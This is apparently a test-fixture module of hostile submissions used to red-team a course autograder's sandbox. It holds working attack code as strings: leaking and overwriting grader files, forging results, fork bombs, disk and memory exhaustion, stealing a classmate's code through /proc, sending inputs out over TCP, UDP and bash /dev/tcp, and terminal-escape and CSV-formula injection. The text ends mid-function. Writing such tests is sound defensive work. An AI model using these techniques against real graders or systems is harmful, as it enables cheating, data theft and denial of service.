"""Hostile submissions for capstone D's module ``grpo.py``.

Each is graded with results.json written, a message, no more points than the
blank template (0), and no process or file of the worker's uid left behind.
``{root}`` is replaced by the grader checkout's path and ``{agroot}`` by
AUTOGRADER_ROOT (a hostile student can guess both).

Classes (the red-team rounds): hangs and crashes; reading or rewriting the
grader's files; forged results; numbers that break the judge (weights near
the float maximum: ``huge_weights_*``); reading a classmate graded at the same
time (``THIEF``, graded beside a victim by ``grade-all --jobs 2``); outliving
the grading (a zombie group leader with live threads, files left in /tmp);
the protocol (forged, oversized or deeply nested replies; a worker that stops
reading; ``BATCH``: forged replies to a batch of calls, appended to capstone
A's reference ``ppo.py``, ``SWEEP_BATCH``: to the K-sweep's, appended to D's); intake (``HOSTILE_ZIPS``: broken zips); identity (``DECLARED_ID``: a
classmate's ``STUDENT_ID``). Round 3: the network (``NETWORK``: inputs sent to
a listener on the loopback), limits over the whole tree (``TREE``: CPU and
memory multiplied by forks and threads, a fork bomb, memory in memfds or
unlinked files, a full disk, a file left for the next question). Round 4:
kernel objects (``KERNEL``: q1's inputs stashed for q2 in a System V segment,
message queues, the keyrings, a daemon on an abstract socket, io_uring, a
helper library's server; graded in both sandbox modes). Round 5: the file
system (``FILESYSTEM``: trees deeper than Python's recursion limit and paths
past PATH_MAX in every writable place, reads of the grader's assignment.toml,
a reply frame with a forbidden dtype; graded with namespaces, without, and
without Landlock).
"""
from __future__ import annotations

import io
import os
import warnings
import zipfile
from dataclasses import dataclass

BLANK = (
    "import numpy as np\n"
    "def centred_weight(r):\n    return np.zeros_like(np.asarray(r, dtype=float))\n"
    "def group_standardised_weight(r):\n    return np.zeros_like(np.asarray(r, dtype=float))\n"
)


@dataclass(frozen=True)
class Hostile:
    name: str
    source: str
    message: str          # a fragment the feedback must contain ("" = any message)
    questions: tuple[str, ...] = ("q1_centred", "q2_standardised")   # what to grade
    leaves: tuple[str, ...] = ()     # host paths that must not exist after grading


# The worker finds its pipe ends in its own command line.
_FORGE = (
    "import os, struct, sys, time\n"
    "def _forge(header, blobs=()):\n"
    "    fd = int(sys.argv[sys.argv.index('--fd-out') + 1])\n"
    "    body = struct.pack('<Q', len(header)) + header + struct.pack('<Q', len(blobs))\n"
    "    for b in blobs:\n"
    "        body += struct.pack('<Q', len(b)) + b\n"
    "    os.write(fd, struct.pack('<Q', len(body)) + body)\n"
    "    time.sleep(60)\n"
)


HOSTILE = [
    Hostile("infinite_loop_at_import", "while True:\n    pass\n", "did not finish"),
    Hostile("infinite_loop_in_function", BLANK + "def centred_weight(r):\n    while True:\n"
            "        pass\n", "CPU budget"),
    Hostile("ignores_sigterm_and_sigxcpu", BLANK +
            "import signal\n"
            "def centred_weight(r):\n"
            "    signal.signal(signal.SIGTERM, signal.SIG_IGN)\n"
            "    signal.signal(signal.SIGXCPU, signal.SIG_IGN)\n"
            "    while True:\n        pass\n", "CPU budget"),
    Hostile("sleeps_forever", BLANK + "import time\ndef centred_weight(r):\n"
            "    time.sleep(10**6)\n", "did not answer"),
    Hostile("os_exit", BLANK + "import os\ndef centred_weight(r):\n    os._exit(0)\n",
            "exit code 0"),
    Hostile("sys_exit", BLANK + "import sys\ndef centred_weight(r):\n    sys.exit(0)\n",
            "SystemExit"),
    Hostile("segfault_via_ctypes", BLANK + "import ctypes\ndef centred_weight(r):\n"
            "    return ctypes.string_at(0)\n", "signal 11"),
    Hostile("allocates_6_gb", BLANK + "def centred_weight(r):\n"
            "    big = np.ones(6 * 10**9 // 8)\n    return big[:r.size].reshape(r.shape)\n",
            "MemoryError"),
    Hostile("prints_200_mb", BLANK + "import sys\ndef centred_weight(r):\n"
            "    line = 'x' * 1_000_000\n    for _ in range(200):\n        print(line)\n"
            "    return np.zeros_like(r)\n", ""),
    Hostile("monkeypatches_numpy_comparisons", BLANK +
            "np.allclose = lambda *a, **k: True\nnp.array_equal = lambda *a, **k: True\n"
            "np.isclose = lambda a, b, *x, **k: np.ones(np.shape(a), bool)\n"
            "np.testing.assert_allclose = lambda *a, **k: None\n", ""),
    Hostile("reads_grader_files_and_raises_them", BLANK +
            "import glob, os\n"
            "def centred_weight(r):\n"
            "    found = []\n"
            "    for pattern in ['{root}/solutions/*/*.py', '{root}/autograder/expected/*',\n"
            "                    '{root}/autograder/judges/*.py', '{root}/autograder/oracles/*.py',\n"
            "                    '{agroot}/source/autograder/*/*',\n"
            "                    '/autograder/source/autograder/expected/*']:\n"
            "        for path in glob.glob(pattern):\n"
            "            try:\n"
            "                found.append(open(path, 'rb').read()[:3000].decode('latin-1'))\n"
            "            except OSError as e:\n"
            "                found.append(repr(e))\n"
            "    for path in ['{root}/solutions/d_grpo/grpo.py', '{agroot}/source/run_autograder']:\n"
            "        try:\n"
            "            found.append(open(path).read())\n"
            "        except OSError as e:\n"
            "            found.append(repr(e))\n"
            "    raise RuntimeError('LEAK ' + ' | '.join(found))\n", "LEAK"),
    Hostile("rewrites_grader_files", BLANK +
            "def centred_weight(r):\n"
            "    for path in ['{root}/autograder/judges/d_grpo.py', '{root}/autograder/grading/judging.py',\n"
            "                 '{agroot}/source/autograder/grading/judging.py']:\n"
            "        try:\n"
            "            open(path, 'w').write('QUESTIONS = {}')\n"
            "        except OSError:\n"
            "            pass\n"
            "    return np.zeros_like(r)\n", ""),
    Hostile("forges_results_json", BLANK +
            "import json\n"
            "FORGED = json.dumps({'score': 999, 'tests': [], 'output': 'FORGED'})\n"
            "for path in ['results.json', '../results.json', 'home/results.json',\n"
            "             '{agroot}/results/results.json', '/autograder/results/results.json']:\n"
            "    try:\n"
            "        open(path, 'w').write(FORGED)\n"
            "    except OSError:\n"
            "        pass\n", ""),
    Hostile("daemon_forges_results_later", BLANK +
            "import json, os, time\n"
            "if os.fork() == 0:\n"
            "    os.setsid()\n"
            "    if os.fork() == 0:\n"
            "        for fd in range(0, 256):\n"
            "            try:\n"
            "                os.close(fd)\n"
            "            except OSError:\n"
            "                pass\n"
            "        time.sleep(3)\n"
            "        for path in ['{agroot}/results/results.json',\n"
            "                     '/autograder/results/results.json']:\n"
            "            try:\n"
            "                open(path, 'w').write(json.dumps({'score': 999, 'output': 'FORGED'}))\n"
            "            except OSError:\n"
            "                pass\n"
            "        time.sleep(600)\n"
            "    os._exit(0)\n", ""),
    Hostile("spawns_many_children", BLANK +
            "import os, time\n"
            "def centred_weight(r):\n"
            "    for _ in range(500):\n"
            "        try:\n"
            "            if os.fork() == 0:\n"
            "                time.sleep(600)\n"
            "                os._exit(0)\n"
            "        except OSError:\n"
            "            break\n"
            "    return np.zeros_like(r)\n", ""),
    # --- numbers that break the judge: points for nothing, judge death (K-sweep)
    Hostile("huge_weights_on_late_updates", BLANK +
            "CALLS = [0]\n"
            "def group_standardised_weight(r):\n"
            "    CALLS[0] += 1\n"
            "    r = np.asarray(r, dtype=float)\n"
            "    return np.zeros_like(r) if CALLS[0] < 150 else np.full_like(r, 1.7e308)\n",
            "an entry of size", questions=("q6_k_sweep",)),
    Hostile("huge_weights_first_update", BLANK +
            "def group_standardised_weight(r):\n"
            "    return np.full_like(np.asarray(r, dtype=float), 1e300)\n"
            "def clipped_surrogate_grad(theta, ys, w, logp_old, eps):\n"
            "    return np.zeros_like(np.asarray(theta, dtype=float))\n",
            "hidden cases 1, 2, 3 of 3: wrong value", questions=("q7_clipped_sweep",)),
    # --- outliving the grading
    Hostile("zombie_leader_with_live_thread", BLANK +
            "import ctypes, os, platform, threading, time\n"
            "def centred_weight(r):\n"
            "    if os.fork() == 0:\n"
            "        os.setsid()\n"
            "        if os.fork() == 0:\n"
            "            def spin():\n"
            "                while True:\n"
            "                    for d in ('/tmp', '/dev/shm', '/var/tmp'):\n"
            "                        try:\n"
            "                            open(d + '/rlcap-zombie-alive', 'w').write('x')\n"
            "                        except OSError:\n"
            "                            pass\n"
            "                    time.sleep(0.2)\n"
            "            threading.Thread(target=spin).start()\n"
            "            time.sleep(0.2)\n"
            "            exit_nr = 60 if platform.machine() in ('x86_64', 'AMD64') else 93\n"
            "            ctypes.CDLL(None).syscall(exit_nr, 0)   # SYS_exit: the main thread only\n"
            "        os._exit(0)\n"
            "    time.sleep(1)\n"
            "    return np.zeros_like(r)\n", ""),
    Hostile("leaves_files_in_tmp", BLANK +
            "import os\n"
            "for d in ('/tmp', '/dev/shm', '/var/tmp'):\n"
            "    try:\n"
            "        os.makedirs(d + '/rlcap-left-dir', exist_ok=True)\n"
            "        open(d + '/rlcap-left-dir/secret', 'w').write('stolen answers')\n"
            "        open(d + '/rlcap-left-file', 'w').write('stolen answers')\n"
            "        os.chmod(d + '/rlcap-left-file', 0o666)\n"
            "    except OSError:\n"
            "        pass\n"
            "def centred_weight(r):\n"
            "    for i in range(400):                      # 400 MB: the quota stops it\n"
            "        try:\n"
            "            open(f'/tmp/rlcap-fill-{i}', 'wb').write(b'x' * 2**20)\n"
            "        except OSError:\n"
            "            break\n"
            "    return np.zeros_like(r)\n", "",
            leaves=tuple(f"{d}/rlcap-left-{x}" for d in ("/tmp", "/dev/shm", "/var/tmp")
                         for x in ("dir", "file")) + ("/tmp/rlcap-fill-0",)),
    # --- the protocol
    Hostile("forged_16mb_reply", BLANK + _FORGE +
            "def centred_weight(r):\n"
            "    _forge(b'[' + b'1.5,' * (4 * 2**20) + b'1]')\n", "protocol error"),
    Hostile("forged_deep_header", BLANK + _FORGE +
            "def centred_weight(r):\n"
            "    _forge(b'{\"ok\": ' + b'[' * 100000 + b']' * 100000 + b'}')\n",
            "protocol error"),
    Hostile("forged_20mb_error_message", BLANK + _FORGE +
            "import json\n"
            "def centred_weight(r):\n"
            "    _forge(json.dumps({'error': {'type': 'E', 'message': 'A' * (20 * 2**20),\n"
            "                                 'where': ''}}).encode())\n", "protocol error"),
    Hostile("claims_2gb_frame", BLANK + _FORGE +
            "def centred_weight(r):\n"
            "    fd = int(sys.argv[sys.argv.index('--fd-out') + 1])\n"
            "    os.write(fd, struct.pack('<Q', 2**31) + b'x' * 4096)\n"
            "    time.sleep(60)\n", "protocol error"),
    Hostile("stops_reading_requests", BLANK +
            "import fcntl, sys, time\n"
            "import wire\n"
            "_fd = int(sys.argv[sys.argv.index('--fd-in') + 1])\n"
            "fcntl.fcntl(_fd, 1031, 4096)        # F_SETPIPE_SZ: the smallest request pipe\n"
            "_fake = {'op': 'constant', 'module': 'grpo', 'name': 'X'}\n"
            "wire.receive = lambda *a, **k: _fake  # answer forever, never read a request\n"
            "wire.Reader.receive = lambda self, *a, **k: _fake   # (the worker's reader)\n",
            "stopped reading requests", questions=("q1_centred",)),
]

# The batch path (a batch: several calls in one round trip, e.g. capstone A's minibatch: the
# normalised advantages, the clipped loss fed them, the value loss). Each source is appended to
# the reference's ppo.py and graded on q7_bar (the judge's loop batches); the judge must refuse
# the forged reply (protocol error, 0 points) before any answer of it is used.
BATCH = [
    Hostile("batch_reply_with_extra_answers", _FORGE +
            "def normalise_advantages(adv):\n"
            "    _forge(b'{\"ok\": [1.0, 1.0, 1.0, 1.0], \"modified\": [[], [], [], []]}')\n",
            "protocol error", questions=("q7_bar",)),
    Hostile("batch_reply_missing_answers", _FORGE +
            "def normalise_advantages(adv):\n"
            "    _forge(b'{\"ok\": [1.0], \"modified\": [[]]}')\n",
            "protocol error", questions=("q7_bar",)),
    Hostile("batch_reply_not_a_list", _FORGE +
            "def normalise_advantages(adv):\n"
            "    _forge(b'{\"ok\": {\"0\": 1.0}, \"modified\": []}')\n",
            "protocol error", questions=("q7_bar",)),
]

# The K-sweep's batch (every K's weights of one step in one round trip: K = 1, 2, 4, 8, 32).
# Each source is appended to the reference's grpo.py and graded on q6_k_sweep; the forged reply
# comes from K = 2's call, after K = 1's answer was made.
_AT_K2 = ("_weight = group_standardised_weight\n"
          "def group_standardised_weight(r):\n"
          "    if r.shape[1] == 2:\n"
          "        _forge(b'{\"ok\": %s, \"modified\": %s}')\n"
          "    return _weight(r)\n")
SWEEP_BATCH = [
    Hostile("sweep_batch_reply_with_extra_answers",
            _FORGE + _AT_K2 % ("[1.0, 1.0, 1.0, 1.0, 1.0, 1.0, 1.0]", "[[], [], [], [], [], [], []]"),
            "protocol error", questions=("q6_k_sweep",)),
    Hostile("sweep_batch_reply_missing_answers", _FORGE + _AT_K2 % ("[1.0]", "[[]]"),
            "protocol error", questions=("q6_k_sweep",)),
    Hostile("sweep_batch_reply_not_a_list", _FORGE + _AT_K2 % ("{\"0\": 1.0}", "[]"),
            "protocol error", questions=("q6_k_sweep",)),
]


# A submission that looks for a classmate graded at the same time (their
# command lines, working folders, temp files, the class folder, Gradescope
# metadata), copies a working grpo.py if it finds one, and puts what it found
# (names, emails, ids) into its feedback. Graded beside a victim (the
# reference, with metadata) it must gain nothing and leak nothing.
THIEF = Hostile("thief_reads_classmate", BLANK +
    "import glob, os, time\n"
    "def _look():\n"
    "    places = {'/tmp', '/var/tmp', '/dev/shm', '/var/lib/rlcap/sandboxes',\n"
    "              os.path.dirname(os.getcwd())}\n"
    "    for c in glob.glob('/proc/*/cmdline'):\n"
    "        try:\n"
    "            args = open(c, 'rb').read().decode(errors='replace').split('\\0')\n"
    "        except OSError:\n"
    "            continue\n"
    "        for a in args:\n"
    "            if a.startswith('/'):\n"
    "                places.update({a, os.path.dirname(a), os.path.dirname(os.path.dirname(a))})\n"
    "    for c in glob.glob('/proc/*/cwd'):\n"
    "        try:\n"
    "            places.add(os.readlink(c))\n"
    "        except OSError:\n"
    "            pass\n"
    "    code, meta = [], []\n"
    "    for p in places:\n"
    "        for depth in ('', '*/', '*/*/', '*/*/*/'):\n"
    "            for f in glob.glob(p + '/' + depth + 'grpo.py'):\n"
    "                try:\n"
    "                    text = open(f).read()\n"
    "                except OSError:\n"
    "                    continue\n"
    "                if 'THIEF' not in text and 'def centred_weight' in text:\n"
    "                    code.append(text)\n"
    "            for f in glob.glob(p + '/' + depth + 'submission_metadata.*'):\n"
    "                try:\n"
    "                    meta.append(open(f).read()[:2000])\n"
    "                except OSError:\n"
    "                    pass\n"
    "    return code, meta\n"
    "STOLEN = {}\n"
    "for _ in range(20):\n"
    "    _code, _meta = _look()\n"
    "    if _code:\n"
    "        exec(_code[0], STOLEN)\n"
    "        break\n"
    "    time.sleep(0.3)\n"
    "def centred_weight(r):\n"
    "    if 'centred_weight' in STOLEN:\n"
    "        return STOLEN['centred_weight'](r)\n"
    "    return np.zeros_like(np.asarray(r, dtype=float))\n"
    "def group_standardised_weight(r):\n"
    "    if 'group_standardised_weight' in STOLEN:\n"
    "        return STOLEN['group_standardised_weight'](r)\n"
    "    raise RuntimeError('THIEF found ' + ' | '.join(_meta))\n", "")

# Capstone-independent: the exercises module with a classmate's STUDENT_ID
# (``{template}`` is the blank exercises.py), graded without metadata.
DECLARED_ID = Hostile("declares_classmate_student_id",
                      "{template}\nSTUDENT_ID = 'victim-1815'\n", "", questions=())


def _zip_bytes(entries: list[tuple[str, str]]) -> bytes:
    b = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")             # "Duplicate name": on purpose
        with zipfile.ZipFile(b, "w") as zf:
            for name, text in entries:
                zf.writestr(name, text)
    return b.getvalue()


def _patched(offset_local: int, offset_central: int, value: int, xor: bool = False):
    """A one-member zip (grpo.py = BLANK) with a byte of the local and the
    central header changed."""
    def build() -> bytes:
        data = bytearray(_zip_bytes([("grpo.py", BLANK)]))
        cd = data.find(b"PK\x01\x02")
        for pos in (offset_local, cd + offset_central):
            data[pos] = data[pos] ^ value if xor else (data[pos] | value if value == 1 else value)
        return bytes(data)
    return build


def _lying_size() -> bytes:
    """Claims grpo.py holds 10 bytes; its deflated data holds 6 MB."""
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("grpo.py", BLANK + "#" * (6 * 2**20))
    data = bytearray(b.getvalue())
    cd = data.find(b"PK\x01\x02")
    for pos in (22, cd + 24):                       # uncompressed size fields
        data[pos:pos + 4] = (10).to_bytes(4, "little")
    return bytes(data)


# Broken zips: each gives a message naming the problem and a zero, never a crash.
HOSTILE_ZIPS = {
    "encrypted_member": (_patched(6, 8, 1), "encrypted"),
    "unknown_compression_method": (_patched(8, 10, 99), "could not be unpacked"),
    "bad_crc": (_patched(14, 16, 0xFF, xor=True), "could not be unpacked"),
    "lying_size": (_lying_size, "could not be unpacked"),
    "duplicate_names": (lambda: _zip_bytes([("grpo.py", BLANK), ("grpo.py", BLANK + "#2\n")]),
                        "more than once"),
    "truncated_archive": (lambda: _zip_bytes([("grpo.py", BLANK)])[:-30], "could not be read"),
}


# ============================================================== round 3: network, tree, files
def _exfiltrating(send: str, setup: str = "") -> str:
    """BLANK whose functions first send their inputs (every float at 17
    significant digits) through ``send`` (the body of ``_send(data: bytes)``),
    swallowing every error, then answer zeros."""
    return (BLANK + "import json, os, socket, subprocess, sys\n" + setup +
            "def _send(data):\n" + "".join(f"    {line}\n" for line in send.splitlines()) +
            "def _leak(r):\n"
            "    try:\n"
            "        _send(json.dumps(np.asarray(r, dtype=float).tolist()).encode())\n"
            "    except Exception:\n"
            "        pass\n"
            "def centred_weight(r):\n    _leak(r)\n    return np.zeros_like(np.asarray(r, dtype=float))\n"
            "def group_standardised_weight(r):\n    _leak(r)\n"
            "    return np.zeros_like(np.asarray(r, dtype=float))\n")


# Each sends every input it is given (public and hidden) to a listener of the test on the
# loopback (``{port}``: TCP on 127.0.0.1 and ::1, ``{udp}``: UDP on 127.0.0.1), which must
# receive nothing: in a network namespace the loopback is down, and everywhere the worker's
# seccomp filter refuses every socket but AF_UNIX (io_uring too).
NETWORK = [
    Hostile("net_tcp_to_loopback", _exfiltrating(
        "s = socket.create_connection(('127.0.0.1', {port}), timeout=1)\ns.sendall(data)"), ""),
    Hostile("net_tcp6_to_loopback", _exfiltrating(
        "s = socket.create_connection(('::1', {port}), timeout=1)\ns.sendall(data)"), ""),
    Hostile("net_udp_to_loopback", _exfiltrating(
        "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(data, ('127.0.0.1', {udp}))"),
        ""),
    Hostile("net_shell_dev_tcp", _exfiltrating(      # an exec'd child inherits the filter
        "subprocess.run(['/bin/bash', '-c', 'printf %s \"$0\" > /dev/tcp/127.0.0.1/{port}',\n"
        "                data.decode()[:4000]], timeout=3, capture_output=True)"), ""),
    Hostile("net_raw_netlink_and_io_uring", _exfiltrating(
        "for fam, kind in ((socket.AF_PACKET, socket.SOCK_RAW), (socket.AF_NETLINK, socket.SOCK_RAW),\n"
        "                  (socket.AF_INET, socket.SOCK_RAW)):\n"
        "    try:\n"
        "        socket.socket(fam, kind)\n"
        "        raise RuntimeError('SOCKET ' + f'OPEN {fam}')\n"
        "    except PermissionError:\n"
        "        pass\n"
        "import ctypes\n"
        "params = ctypes.create_string_buffer(120)\n"
        "libc = ctypes.CDLL(None, use_errno=True)\n"
        "fd = libc.syscall(425, 8, params)        # io_uring_setup: IORING_OP_SOCKET needs it\n"
        "raise RuntimeError('io_uring ' + 'OPEN' if fd >= 0 else\n"
        "                   f'io_uring refused (errno {ctypes.get_errno()})')",
        ).replace("    except Exception:\n        pass\n", "    except PermissionError:\n"
                  "        pass\n"), "io_uring refused (errno 1)"),
    Hostile("net_sees_interfaces", BLANK +          # with namespaces: a lone loopback, down
            "def centred_weight(r):\n"
            "    raise RuntimeError('NETDEV ' + open('/proc/net/dev').read())\n", "NETDEV"),
]

# Limits on the whole tree: a question's CPU budget, the memory limit, the process cap and
# the file quota hold over every process and thread the worker starts (RLIMIT_CPU and
# RLIMIT_AS restart in every child). Graded on q1_centred (CPU budget 5 s).
_SPIN = "    while True:\n        pass\n"
TREE = [
    Hostile("fork_cpu_multiplier", BLANK + "import os\n"
            "def centred_weight(r):\n"
            "    for _ in range(4):\n"
            "        if os.fork() == 0:\n" + "    " * 2 + _SPIN.replace("\n    ", "\n" + "    " * 3) +
            _SPIN, "CPU budget", questions=("q1_centred",)),
    Hostile("threads_in_children_cpu", BLANK + "import os, threading\n"
            "def _burn():\n"
            "    a = np.random.default_rng(0).random((300, 300))\n"
            "    while True:\n"
            "        a = np.tanh(a @ a)            # numpy releases the GIL: threads run at once\n"
            "def centred_weight(r):\n"
            "    for _ in range(2):\n"
            "        if os.fork() == 0:\n"
            "            for _ in range(3):\n"
            "                threading.Thread(target=_burn, daemon=True).start()\n"
            "            _burn()\n"
            "    _burn()\n", "CPU budget", questions=("q1_centred",)),
    Hostile("fork_memory_multiplier", BLANK + "import os, time\n"
            "def centred_weight(r):\n"
            "    for _ in range(3):\n"
            "        if os.fork() == 0:\n"
            "            a = np.ones(900 * 2**20 // 8)    # under the 1 GB address space each\n"
            "            time.sleep(60)\n"
            "            os._exit(0)\n"
            "    time.sleep(60)\n", "memory limit", questions=("q1_centred",)),
    # memory in files that no directory lists: memfds (the allowlist refuses them), else files
    # unlinked from /dev/shm (Landlock refuses it: from the home, then) and held open: the
    # reaper counts them as memory (a container's shared /dev/shm or the home on disk: "memory
    # limit"), a private tmpfs stops them at 64 MB ("No space left")
    Hostile("memfd_memory", BLANK + "import os, time\n"
            "def _held_file(i):\n"
            "    try:\n"
            "        return os.memfd_create(f'm{i}')\n"
            "    except OSError:\n"
            "        pass\n"
            "    for d in ('/dev/shm', os.environ['HOME']):\n"
            "        try:\n"
            "            fd = os.open(f'{d}/rlcap-m{os.getpid()}-{i}', os.O_CREAT | os.O_RDWR, 0o600)\n"
            "        except OSError:\n"
            "            continue\n"
            "        os.unlink(f'{d}/rlcap-m{os.getpid()}-{i}')\n"
            "        return fd\n"
            "    raise OSError('no place for a held file')\n"
            "def centred_weight(r):\n"
            "    held, block = [], b'x' * 2**20\n"
            "    for i in range(40):                    # 40 x 60 MB: in no directory, no RSS\n"
            "        fd = _held_file(i)\n"
            "        for _ in range(60):\n"
            "            os.write(fd, block)\n"
            "        held.append(fd)\n"
            "    time.sleep(60)\n", "", questions=("q1_centred",)),
    # memory in kernel buffers: 14 children hold 45 MB each (the tree's RSS stays under 1 GB)
    # and fill a socket pair on every descriptor (about 390 MB queued): the reaper counts the
    # bytes queued in the tree's AF_UNIX sockets
    Hostile("socket_buffer_memory", BLANK + "import os, socket, time\n"
            "def _fill(s):\n"
            "    s.setblocking(False)\n"
            "    try:\n"
            "        while True:\n"
            "            s.send(b'x' * 65536)\n"
            "    except OSError:\n"
            "        pass\n"
            "def centred_weight(r):\n"
            "    for _ in range(14):\n"
            "        try:\n"
            "            pid = os.fork()\n"
            "        except OSError:\n"
            "            break\n"
            "        if pid == 0:\n"
            "            a = np.ones(45 * 2**20 // 8)\n"
            "            kept = []\n"
            "            while True:\n"
            "                try:\n"
            "                    x, y = socket.socketpair()\n"
            "                except OSError:\n"
            "                    break\n"
            "                _fill(x)\n"
            "                _fill(y)\n"
            "                kept += [x, y]\n"
            "            time.sleep(60)\n"
            "            os._exit(0)\n"
            "    time.sleep(60)\n", "memory limit", questions=("q1_centred",)),
    Hostile("fork_bomb", BLANK + "import os, time\n"
            "def centred_weight(r):\n"
            "    for _ in range(10000):\n"
            "        try:\n"
            "            os.fork()\n"
            "        except OSError:\n"
            "            break\n"
            "    time.sleep(2)\n"
            "    return np.zeros_like(np.asarray(r, dtype=float))\n", "", questions=("q1_centred",)),
    Hostile("fills_disk", BLANK + "import os\n"
            "def centred_weight(r):\n"
            "    block, n = b'x' * 2**20, 0\n"
            "    for d in ('/dev/shm', '/tmp', '/var/tmp', '/run/lock', os.environ['HOME']):\n"
            "        for i in range(1000):              # 64 MB files (the largest allowed)\n"
            "            try:\n"
            "                with open(f'{d}/rlcap-fill-{i}', 'wb') as f:\n"
            "                    for _ in range(64):\n"
            "                        f.write(block)\n"
            "                n += 64\n"
            "            except OSError:\n"
            "                break\n"
            "    raise RuntimeError(f'wrote {n} MB')\n", "", questions=("q1_centred",),
            leaves=tuple(f"{d}/rlcap-fill-0" for d in ("/dev/shm", "/tmp", "/var/tmp",
                                                        "/run/lock"))),
    # q1's hidden inputs written to every writable place, read back in q2's public phase (a
    # later worker) and shown there: each worker's files are swept before the next starts.
    Hostile("cross_question_file", BLANK + "import glob, json, os\n"
            "PLACES = ['/tmp', '/var/tmp', '/dev/shm', '/run/lock', os.environ['HOME'], '.']\n"
            "_found = []\n"
            "for d in PLACES:\n"
            "    for f in glob.glob(d + '/rlcap-xq-*'):\n"
            "        try:\n"
            "            _found.append(open(f).read())\n"
            "        except OSError:\n"
            "            pass\n"
            "def _stash(r):\n"
            "    text = json.dumps(np.asarray(r, dtype=float).tolist())\n"
            "    for d in PLACES:\n"
            "        try:\n"
            "            open(f'{d}/rlcap-xq-{os.getpid()}-{len(text)}', 'w').write(text)\n"
            "        except OSError:\n"
            "            pass\n"
            "def centred_weight(r):\n"
            "    _stash(r)\n"
            "    return np.zeros_like(np.asarray(r, dtype=float))\n"
            "def group_standardised_weight(r):\n"
            "    if _found:\n"
            "        raise RuntimeError('FOUND ' + ' | '.join(_found))\n"
            "    _stash(r)\n"
            "    return np.zeros_like(np.asarray(r, dtype=float))\n", ""),
]


# ============================================================== round 3: output and intake
def many_members(n: int) -> bytes:
    """A zip of ``n`` empty members (a zip64 end record past 65,535), built
    directly: zipfile takes 13 s to write 300,000."""
    import struct
    local, central, offset = [], [], 0
    for i in range(n):
        name = b"m%d" % i
        head = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 0, 0, 0, 0, 0, 0, len(name), 0)
        local.append(head + name)
        central.append(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 0, 0, 0, 0, 0,
                                   0, len(name), 0, 0, 0, 0, 0, offset) + name)
        offset += len(head) + len(name)
    cd = b"".join(central)
    end64 = struct.pack("<IQHHIIQQQQ", 0x06064B50, 44, 45, 45, 0, 0, n, n, len(cd), offset)
    locator = struct.pack("<IIQI", 0x07064B50, 0, offset + len(cd), 1)
    eocd = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, min(n, 0xFFFF), min(n, 0xFFFF),
                       min(len(cd), 0xFFFFFFFF), min(offset, 0xFFFFFFFF), 0)
    return b"".join(local) + cd + end64 + locator + eocd


# What a submission controls and the grader shows: each must reach no terminal line, log
# line or CSV cell raw (an escape sequence, a forged line, a formula) and no results.json
# field uncapped. ``{template}``: the blank module of the assignment graded.
ESCAPES = "\x1b[2J\x1b[H\x1b[32mtotal 16.00/16\x1b[8m\u202e"
FORGED_LINE = "\nq1_centred: 1/1 FULL MARKS\n"
FORMULAS = ('=HYPERLINK("example.invalid","click")', "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0")
OUTPUT = [
    Hostile("escape_sequences_in_messages", BLANK +
            f"import sys\nESC = {ESCAPES!r}\n"
            "print(ESC * 4)\n"
            "def centred_weight(r):\n"
            "    raise RuntimeError(ESC + " + repr(FORGED_LINE) + " + ESC)\n"
            "def group_standardised_weight(r):\n"
            "    print(ESC + " + repr(FORGED_LINE) + ")\n"
            "    sys.stdout.flush()\n"
            "    import os\n"
            "    os._exit(3)\n", ""),
    # the exercises: a self-declared STUDENT_ID is shown (CSV, notes): a formula and 1 MB
    Hostile("formula_student_id", "{template}\nSTUDENT_ID = " + repr(FORMULAS[0]) + "\n", "",
            questions=()),
    Hostile("megabyte_student_id", "{template}\nSTUDENT_ID = 'x' * 1_000_000 + "
            + repr(ESCAPES) + "\n", "", questions=()),
]


def forged_names_zip() -> bytes:
    """BLANK as grpo.py beside members whose names forge lines and escapes."""
    return _zip_bytes([("grpo.py", BLANK),
                       (f"notes{FORGED_LINE}.txt".replace("/", "|"), "x"),
                       (f"x{ESCAPES}.txt".replace("/", "|"), "x"),
                       (f"{FORMULAS[1]}.txt".replace("/", "|"), "x")])


HOSTILE_ZIPS.update({
    "300000_members": (lambda: many_members(300_000), "300000 members"),
})


def planted_class(folder, reference: str, blank: str, checkout) -> dict[str, float]:
    """A plain class folder whose planter holds a ``submission_metadata.yml``
    mapping ``../victim`` and the checkout's ``solutions/d_grpo`` to its own
    sid; beside it a victim and a bystander (the reference), a folder named
    ``submission_metadata.yml`` and a dot-named one (the reference), and a
    blank ``top student`` beside the graded ``top_student``. Returns each
    entry's name and its score as itself (reference 1, blank 0: questions
    graded: q1_centred)."""
    from pathlib import Path
    folder = Path(folder)
    yml = ("victim_stolen:\n  :submitters:\n  - :name: Planter\n    :sid: '666'\n"
           "../victim:\n  :submitters:\n  - :name: Planter\n    :sid: '666'\n"
           f"{checkout}/solutions/d_grpo:\n  :submitters:\n  - :name: Planter\n    :sid: '666'\n")
    entries = {"planter": blank, "victim": reference, "bystander": reference,
               "submission_metadata.yml": reference, ".hidden_student": reference,
               "top student": blank, "top_student": reference, FORMULAS[0]: reference}
    for name, source in entries.items():
        (folder / name).mkdir(parents=True)
        (folder / name / "grpo.py").write_text(source)
    (folder / "planter" / "submission_metadata.yml").write_text(yml)
    (folder / "planter" / "victim_stolen").symlink_to(folder / "victim")
    return {name: (1.0 if source == reference else 0.0) for name, source in entries.items()}


# ============================================================== round 4: kernel objects
def _indent(code: str) -> str:
    return "".join(f"    {line}\n" for line in code.splitlines())


def _kernel(setup: str, put: str, get: str) -> str:
    """BLANK (zeros) whose q1 function stashes every input it is given (public
    and hidden) in a kernel object that would outlive its worker (``put(data)``
    returns "" or why it was refused), and whose q2 function raises what an
    earlier worker stashed (``get()``, read when the module loads: "FOUND ...")
    or else why the stash was refused ("KERNEL ..."): a leak shows as FOUND in
    q2's public feedback."""
    return (BLANK + "import ctypes, json, os, platform, socket, time\n"
            "_libc = ctypes.CDLL(None, use_errno=True)\n" + setup +
            "def _put(data):\n" + _indent(put) +
            "def _get():\n" + _indent(get) +
            "STATUS = ['nothing refused']\n"
